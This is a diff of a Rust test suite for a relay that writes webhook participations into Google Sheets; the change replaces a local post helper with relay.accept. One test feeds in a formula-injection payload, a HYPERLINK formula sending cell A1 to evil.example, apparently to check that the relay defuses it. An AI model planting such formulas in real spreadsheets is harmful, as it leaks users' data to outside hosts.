@@ -83,18 +83,6 @@ fn strings(cells: &[&str]) -> Vec<String> {
     cells.iter().map(|c| c.to_string()).collect()
 }
 
-async fn post(relay: &Relay, body: String) {
-    let r = relay
-        .client
-        .post(relay.url("/hooks/qualifio"))
-        .header("content-type", "application/json")
-        .body(body)
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(r.status().as_u16(), 202, "{}", r.text().await.unwrap());
-}
-
 /// Posts `n` distinct participations, `parallel` at a time, as a campaign peak would.
 async fn post_many(relay: &Relay, prefix: &str, n: usize, parallel: usize) {
     let url = relay.url("/hooks/qualifio");
@@ -158,7 +146,7 @@ async fn fields_go_under_their_headers_whatever_the_order_case_and_extra_columns
         ],
     );
     let relay = s.relay("", FIELDS).await;
-    post(&relay, v2_with_id("hdr-1")).await;
+    relay.accept(v2_with_id("hdr-1")).await;
 
     let rows = s.google.wait_rows(ID, TAB, 3, WAIT).await;
     assert_eq!(rows[2], strings(&[CAMPAIGN_V2, "", EMAIL_V2, NAME_V2]));
@@ -184,7 +172,7 @@ async fn fields_go_under_their_headers_whatever_the_order_case_and_extra_columns
     );
 
     // A second delivery uses the cached header: no second read.
-    post(&relay, v2_with_id("hdr-2")).await;
+    relay.accept(v2_with_id("hdr-2")).await;
     s.google.wait_rows(ID, TAB, 4, WAIT).await;
     assert_eq!(s.google.calls(Call::Get).len(), 1);
     let (store, rows) = delivered(&relay, 2).await;
@@ -206,7 +194,7 @@ async fn an_empty_tab_gets_the_header_row_first() {
     let s = Setup::new().await;
     s.google.add_tab(ID, TAB, &[]);
     let relay = s.relay("", FIELDS).await;
-    post(&relay, v2_with_id("empty-1")).await;
+    relay.accept(v2_with_id("empty-1")).await;
 
     let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
     assert_eq!(
@@ -229,7 +217,7 @@ async fn a_missing_column_is_added_at_the_end() {
     let s = Setup::new().await;
     s.google.add_tab(ID, TAB, &[&["Email", "Name", "Notes"]]);
     let relay = s.relay("", FIELDS).await;
-    post(&relay, v2_with_id("missing-1")).await;
+    relay.accept(v2_with_id("missing-1")).await;
 
     let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
     assert_eq!(rows[0], strings(&["Email", "Name", "Notes", "campaign"]));
@@ -246,7 +234,7 @@ async fn without_add_missing_columns_a_field_with_no_header_is_dead_and_named() 
     let s = Setup::new().await;
     s.google.add_tab(ID, TAB, &[&["Email", "Name"]]);
     let relay = s.relay("add_missing_columns = false", FIELDS).await;
-    post(&relay, v2_with_id("nocol-1")).await;
+    relay.accept(v2_with_id("nocol-1")).await;
 
     let store = relay.store().await;
     let rows = wait_deliveries(&store, for_destination("sheet"), Status::Dead, 1, WAIT).await;
@@ -263,7 +251,7 @@ async fn without_add_missing_columns_a_field_with_no_header_is_dead_and_named() 
     // Someone adds the column by hand: the next delivery reads row 1 again rather than trust
     // its ten-minute copy, and goes through.
     s.google.add_tab(ID, TAB, &[&["Email", "Name", "Campaign"]]);
-    post(&relay, v2_with_id("nocol-2")).await;
+    relay.accept(v2_with_id("nocol-2")).await;
     let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
     assert_eq!(rows[1], strings(&[EMAIL_V2, NAME_V2, CAMPAIGN_V2]));
     assert_eq!(s.google.calls(Call::Get).len(), 2);
@@ -283,7 +271,7 @@ async fn a_range_error_is_dead_with_googles_message_and_row_1_is_read_again() {
         ))],
     );
     let relay = s.relay("", FIELDS).await;
-    post(&relay, v2_with_id("range-1")).await;
+    relay.accept(v2_with_id("range-1")).await;
     let store = relay.store().await;
     let rows = wait_deliveries(&store, for_destination("sheet"), Status::Dead, 1, WAIT).await;
     assert_eq!(
@@ -294,7 +282,7 @@ async fn a_range_error_is_dead_with_googles_message_and_row_1_is_read_again() {
     );
     assert_eq!(s.google.calls(Call::Get).len(), 1);
 
-    post(&relay, v2_with_id("range-2")).await;
+    relay.accept(v2_with_id("range-2")).await;
     s.google.wait_rows(ID, TAB, 2, WAIT).await;
     assert_eq!(
         s.google.calls(Call::Get).len(),
@@ -310,7 +298,7 @@ async fn order_mode_writes_fields_in_config_order_and_reads_nothing() {
     s.google.add_tab(ID, TAB, &[&["Z", "Y", "X", "W"]]);
     let fields = format!("{FIELDS}formula = \"=1+1\"\n");
     let relay = s.relay("columns = \"order\"", &fields).await;
-    post(&relay, v2_with_id("order-1")).await;
+    relay.accept(v2_with_id("order-1")).await;
 
     let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
     // RAW stores text as typed, so a formula is harmless and kept as is.
@@ -364,7 +352,7 @@ async fn throttled_then_failing_then_appended_with_retry_after_honoured() {
         ],
     );
     let relay = s.relay("", FIELDS).await;
-    post(&relay, v2_with_id("throttled-1")).await;
+    relay.accept(v2_with_id("throttled-1")).await;
 
     let (store, rows) = delivered(&relay, 1).await;
     let (_, attempts) = store.show(rows[0].id).await.unwrap().unwrap();
@@ -411,7 +399,7 @@ async fn a_403_is_dead_and_says_which_account_to_share_the_sheet_with() {
         ))],
     );
     let relay = s.relay("", FIELDS).await;
-    post(&relay, v2_with_id("denied-1")).await;
+    relay.accept(v2_with_id("denied-1")).await;
 
     let store = relay.store().await;
     let rows = wait_deliveries(&store, for_destination("sheet"), Status::Dead, 1, WAIT).await;
@@ -439,11 +427,9 @@ id = "-{{ participation.campaign_id }}"
 "#;
     let relay = s.relay("value_input = \"user_entered\"", fields).await;
     let evil = r#"=HYPERLINK("https://evil.example/?"&A1,"Claim your prize")"#;
-    post(
-        &relay,
-        v2_with("formula-1", evil, "+32 470 12 34 56", "@everyone"),
-    )
-    .await;
+    relay
+        .accept(v2_with("formula-1", evil, "+32 470 12 34 56", "@everyone"))
+        .await;
 
     let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
     assert_eq!(
@@ -468,11 +454,11 @@ async fn a_revoked_token_is_refreshed_once_and_the_append_goes_through() {
     let s = Setup::new().await;
     s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
     let relay = s.relay("", FIELDS).await;
-    post(&relay, v2_with_id("token-1")).await;
+    relay.accept(v2_with_id("token-1")).await;
     s.google.wait_rows(ID, TAB, 2, WAIT).await;
 
     s.google.revoke_tokens();
-    post(&relay, v2_with_id("token-2")).await;
+    relay.accept(v2_with_id("token-2")).await;
     s.google.wait_rows(ID, TAB, 3, WAIT).await;
     let statuses: Vec<u16> = s
         .google
@@ -499,7 +485,7 @@ async fn a_value_longer_than_a_cell_is_cut_with_a_warning() {
     s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
     let relay = s.relay("", FIELDS).await;
     let long = "é".repeat(60_000);
-    post(&relay, v2_with("long-1", &long, "X", EMAIL_V2)).await;
+    relay.accept(v2_with("long-1", &long, "X", EMAIL_V2)).await;
 
     let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
     assert_eq!(rows[1][1].chars().count(), 50_000);
@@ -752,7 +738,7 @@ async fn the_readme_guide_works_against_the_fake() {
     );
 
     let relay = Relay::start_in(s.dir.clone(), &text).await;
-    post(&relay, v2_with_id("readme-1")).await;
+    relay.accept(v2_with_id("readme-1")).await;
     let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
     assert_eq!(
         rows[0],
@@ -940,7 +926,7 @@ async fn figures() {
     let mut tick = tokio::time::interval(Duration::from_millis(1000 / u64::from(rate)));
     for i in 0..rate * secs {
         tick.tick().await;
-        post(&relay, v2_with_id(&format!("fig-steady-{i}"))).await;
+        relay.accept(v2_with_id(&format!("fig-steady-{i}"))).await;
     }
     let posted = started.elapsed();
     let total = (rate * secs) as usize;
